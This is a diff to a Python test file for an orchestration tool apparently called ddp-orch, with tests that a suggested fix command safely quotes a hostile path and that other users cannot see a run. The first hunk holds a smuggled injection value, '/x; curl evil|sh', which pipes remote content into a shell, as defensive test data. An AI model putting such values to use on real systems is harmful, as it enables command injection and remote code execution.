@@ -150,8 +150,9 @@ def test_check_shows_no_escape_of_a_host_and_quotes_what_is_to_be_pasted(lab2: L
         said = result.stdout + result.stderr
         assert "curl evil" in said and not CONTROL.search(said)
         assert not any(line.startswith("error: EVIL") for line in said.splitlines())
-        (fix,) = [line for line in said.splitlines() if "du -xsh" in line]
-        assert "du -xsh '/x; curl evil|sh # error: EVIL'/* | sort -h" in shlex.split(fix[fix.index("ddp-orch exec") :])
+        (fix,) = [line for line in said.splitlines() if "du -xh" in line]
+        words = shlex.split(fix[fix.index("ddp-orch exec") :])
+        assert any("$(df --output=target '/x; curl evil|sh # error: EVIL' | tail -n 1)" in word for word in words)
 
 
 MORE_LIES = {
@@ -276,7 +277,7 @@ def test_another_user_reads_nothing_and_disturbs_nothing(lab2: Lab) -> None:
     assert answers == [""]  # the guard's request socket, which closes at once
     of_bob = lab2.inventory(name="bob.yaml", defaults={"user": "bob", "python": lab2.python})
     table = ok(orch(lab2, "ps", "-i", of_bob))
-    assert "no unfinished run of yours" in table.stderr and f"{run_id} ann" in " ".join(table.stdout.split())
+    assert "of yours" in table.stderr and f"{run_id} ann" in " ".join(table.stdout.split())
     assert json.loads(ok(orch(lab2, "ps", "-i", of_bob, "--json")).stdout) == []
     spec = json.loads(next(head.home.glob(f".local/state/ddp-orch/*/runs/{run_id}/spec.json")).read_text())
     listeners = _listeners(head.sh("cat /proc/net/tcp", "root").stdout) - {22}
